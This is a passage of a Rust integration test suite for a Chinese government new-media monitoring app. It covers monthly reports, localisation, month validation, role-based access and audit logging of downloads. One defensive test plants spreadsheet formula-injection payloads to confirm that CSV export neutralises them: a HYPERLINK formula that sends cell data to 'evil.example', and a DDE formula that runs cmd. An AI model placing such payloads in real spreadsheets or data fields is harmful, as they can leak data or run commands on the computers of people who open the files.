    assert!(rotation.contains(&strings(&[
        "石柱土家族自治县应急管理局",
        "抖音",
        "石柱应急",
        "运营中",
        "2026-01-05"
    ])));
    assert!(rotation.contains(&strings(&[
        "石柱土家族自治县应急管理局",
        "新浪微博",
        "石柱应急",
        "运营中",
        "未记录"
    ])));
    // Never a custodian's mobile, anywhere.
    for mobile in
        [&r.duplicate, &r.old_password, &r.never_changed].map(|a| a.custodian_mobile.clone())
    {
        assert!(
            sheets
                .iter()
                .flat_map(|(_, rows)| rows.iter().flatten())
                .all(|cell| !cell.contains(&mobile)),
            "{mobile} shown"
        );
    }
}

#[tokio::test]
async fn the_monthly_report_and_its_workbook_come_in_english() {
    let app = TestApp::spawn().await;
    let reviewer = app.signed_in("reviewer").await;

    let sheets = xlsx(
        &app,
        &reviewer,
        "/reports/monthly.xlsx?month=2026-11&lang=en",
    )
    .await;
    let names: Vec<&str> = sheets.iter().map(|(n, _)| n.as_str()).collect();
    assert_eq!(
        names,
        [
            "Summary",
            "By platform",
            "By status",
            "By host unit",
            "Review of filings",
            "Duplicate accounts",
            "Accounts without custodian",
            "Password rotation overdue"
        ]
    );
    assert_eq!(sheets[2].1[1], strings(&["Active", "29"]));
    assert_eq!(
        sheets[1].1[1],
        strings(&["WeChat Official Account", "14", "1", "1", "16"])
    );
    assert_eq!(
        sheets[4].1[5],
        strings(&["On-time rate", "no decisions this month"])
    );

    let response = reviewer
        .get(app.url("/reports/monthly?month=2026-11"))
        .header("accept-language", "en")
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 200);
    let html = text_of(&response.text().await.unwrap());
    assert!(
        html.contains("<h1>Monthly monitoring report on government new media (2026-11)</h1>"),
        "{html}"
    );
    assert!(html.contains(r#"<label for="report-month">Month</label>"#));
    assert!(html.contains(r#"<caption>By platform</caption>"#));
    // The files come in the page's language.
    assert!(
        html.contains(r#"href="/reports/monthly.xlsx?month=2026-11&amp;lang=en""#),
        "{html}"
    );
    assert!(
        html.contains(r#"<input type="hidden" name="lang" value="en">"#),
        "{html}"
    );
    assert!(html.contains("Monthly report</a>"), "the nav link");
}

#[tokio::test]
async fn the_month_is_this_month_by_default_and_a_bad_month_is_refused() {
    let app = TestApp::spawn().await;
    let client = app.signed_in("reviewer").await;

    let html = text_of(&app.html(&client, "/reports/monthly").await);
    assert!(
        html.contains("<h1>政务新媒体月度监测报告（2026-11）</h1>"),
        "{html}"
    );
    assert!(
        html.contains(r#"<input id="report-month" name="month" type="month" value="2026-11""#),
        "{html}"
    );
    assert!(html.contains(r#"href="/reports/monthly.xlsx?month=2026-11""#));

    for (month, message) in [
        ("2026-13", "月份应按“年-月”填写，例如 2026-11。"),
        ("十一月", "月份应按“年-月”填写，例如 2026-11。"),
        ("2026-12", "该月份尚未开始，没有可报告的内容。"),
    ] {
        let path = format!(
            "/reports/monthly?month={}",
            server::middleware::urlencode(month)
        );
        let response = get(&app, &client, &path).await;
        assert_eq!(response.status(), 400, "{path}");
        let html = text_of(&response.text().await.unwrap());
        assert!(html.contains(message), "{path}: {html}");
        assert!(
            html.contains(r#"data-testid="month-form""#),
            "the picker again"
        );
        assert!(!html.contains(r#"data-testid="monthly-report""#));
        let xlsx_path = format!(
            "/reports/monthly.xlsx?month={}",
            server::middleware::urlencode(month)
        );
        let response = get(&app, &client, &xlsx_path).await;
        assert_eq!(response.status(), 400, "{xlsx_path}");
        assert!(response.text().await.unwrap().contains(message));
    }
}

#[tokio::test]
async fn submitters_are_refused_the_monthly_report_and_see_no_link_to_it() {
    let app = TestApp::spawn().await;
    let submitter = app.signed_in("submitter").await;

    let response = get(&app, &submitter, "/reports/monthly").await;
    assert_eq!(response.status(), 403);
    let html = text_of(&response.text().await.unwrap());
    assert!(
        html.contains(r#"role="alert" class="notice error"><p>您无权查看或执行此操作。"#),
        "{html}"
    );
    assert!(!html.contains(r#"data-testid="monthly-report""#));
    assert!(!html.contains(r#"data-testid="nav-reports""#));

    let response = get(&app, &submitter, "/reports/monthly.xlsx?month=2026-11").await;
    assert_eq!(response.status(), 403);
    assert!(response.headers().get("content-disposition").is_none());
    let response = submitter
        .post(app.url("/api/monthly_report"))
        .form(&[("month", "2026-11")])
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 403);
    let user = app.user("submitter").await;
    assert_eq!(
        reports::monthly(&app.case(&user), None).await,
        Err(AppError::Forbidden)
    );

    // The county level reads it, and has the link.
    for role in ["reviewer", "admin", "auditor"] {
        let client = app.signed_in(role).await;
        let response = get(&app, &client, "/reports/monthly").await;
        assert_eq!(response.status(), 200, "{role}");
        let html = response.text().await.unwrap();
        assert!(
            html.contains(r#"data-testid="nav-reports""#),
            "{role}: {html}"
        );
        let response = get(&app, &client, "/reports/monthly.xlsx").await;
        assert_eq!(response.status(), 200, "{role}");
    }
}

// ---- Formula injection and the audit of downloads (issue 15) -----------------------------------

#[tokio::test]
async fn formulas_in_a_filing_reach_the_filings_report_csv_neutralised_and_the_xlsx_as_text() {
    let app = TestApp::spawn().await;
    let (submitter, reviewer) = (app.user("submitter").await, app.user("reviewer").await);
    let name = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")";
    let f = received_at(&app, &submitter, "weibo", name, china(2026, 11, 2, 10, 0)).await;
    filings::approve(&app.case_at(&reviewer, china(2026, 11, 4, 10, 0)), f.id, "")
        .await
        .unwrap();
    let report = UpwardReport {
        reported_on: "2026-11-05".into(),
        reported_to: "@SUM(1+1)*cmd|' /C calc'!A0".into(),
        reference: "－1+1".into(),
    };
    filings::record_report(
        &app.case_at(&reviewer, china(2026, 11, 5, 9, 0)),
        f.id,
        report,
    )
    .await
    .unwrap();
    let client = app.signed_in("reviewer").await;
    let period = "from=2026-11-01&to=2026-11-30";
    let rows = csv_rows(&app, &client, &format!("/exports/filings.csv?{period}")).await;
    let row = rows.iter().find(|r| r[0] == f.number).expect("the filing");
    assert_eq!(row[3], format!("'{name}"));
    assert_eq!(row[11], "'@SUM(1+1)*cmd|' /C calc'!A0");
    assert_eq!(row[12], "'－1+1");
    for cell in rows.iter().flatten() {
        assert!(
            !cell.starts_with(['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠']),
            "a cell a spreadsheet would run: {cell:?}"
        );
    }
    let sheets = xlsx(&app, &client, &format!("/exports/filings.xlsx?{period}")).await;
    let row = sheets[0].1.iter().find(|r| r[0] == f.number).unwrap();
    assert_eq!((row[3].as_str(), row[12].as_str()), (name, "－1+1"));
}

#[tokio::test]
async fn every_report_download_is_audited_with_its_period_or_month() {
    use app::server::entities::audit_event;
    let app = TestApp::spawn().await;
    let reviewer = app.signed_in("reviewer").await;
    for path in [
        "/exports/filings.csv?from=2026-11-01&to=2026-11-30",
        "/exports/filings.xlsx?from=2026-11-01&to=2026-11-30&lang=en",
        "/reports/monthly.xlsx?month=2026-10",
    ] {
        let response = get(&app, &reviewer, path).await;
        assert_eq!(response.status(), 200, "{path}");
        response.bytes().await.unwrap();
    }
    let filings = app.audit_actions("report.filings_exported").await;
    assert_eq!(filings.len(), 2, "{filings:?}");
    let monthly = app.audit_actions("report.monthly_exported").await;
    assert_eq!(monthly.len(), 1, "{monthly:?}");
    let events = audit_event::Entity::find()
        .filter(audit_event::Column::Action.starts_with("report."))
        .all(&app.db)
        .await
        .unwrap();
    let after: Vec<serde_json::Value> = events
        .iter()
        .map(|e| serde_json::from_str(e.after.as_deref().unwrap()).unwrap())
        .collect();
    assert!(
        after
            .iter()
            .any(|a| a["from"] == "2026-11-01" && a["to"] == "2026-11-30" && a["format"] == "csv")
    );
    assert!(
        after
            .iter()
            .any(|a| a["format"] == "xlsx" && a["from"] == "2026-11-01")
    );
    assert!(after.iter().any(|a| a["month"] == "2026-10"));
    assert!(
        events
            .iter()
            .all(|e| e.actor_username.as_deref() == Some("reviewer") && e.entity_type == "report")
    );
    // A refused download records nothing.
    let refused = get(
        &app,
        &reviewer,
        "/exports/filings.csv?from=2026-11-30&to=2026-11-01",
    )
    .await;
    assert_eq!(refused.status(), 400);
    assert_eq!(app.audit_actions("report.filings_exported").await.len(), 2);
}
